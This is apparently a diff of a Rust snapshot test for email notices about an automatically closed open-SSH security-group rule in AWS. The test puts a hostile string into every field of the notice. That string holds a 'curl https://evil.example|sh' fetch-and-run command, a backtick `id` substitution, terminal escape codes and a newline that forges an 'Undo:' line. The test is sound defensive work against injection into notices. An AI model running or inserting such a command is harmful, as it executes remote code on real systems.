     Kept: tcp 22 from 203.0.113.0/24
-    Connections: Those made meanwhile ended with the rule.
+    Connections that only this rule let in were untracked and ended with it.
 
     If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
-    The command is too long for a mail, or has characters that a mail would spoil: see undo in the JSON of this message.
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+    The command is too long for a mail, or has characters that a mail would spoil; the JSON on the topic has it.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
@@ -505,18 +518,18 @@ fn hostile_text_in_every_field() {
     x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
     Closed. x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
 
-    When: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    Seen: 2026-11-22 03:12:50 UTC, x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{2…
     Who: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
     From: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", x\u{a}Undo: \u{1b}…
-    Group: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evi…
+    Group: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}" "x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}\"", x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/e…
     Rule: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", tcp 22 from 0.0.0.0/0 "x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}\""
     Too much: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
     Kept: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
-    Connections: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
 
     If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
-    The command is too long for a mail, or has characters that a mail would spoil: see undo in the JSON of this message.
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}".
+    The command is too long for a mail, or has characters that a mail would spoil; the JSON on the topic has it.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}" on.
 
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
     "#);
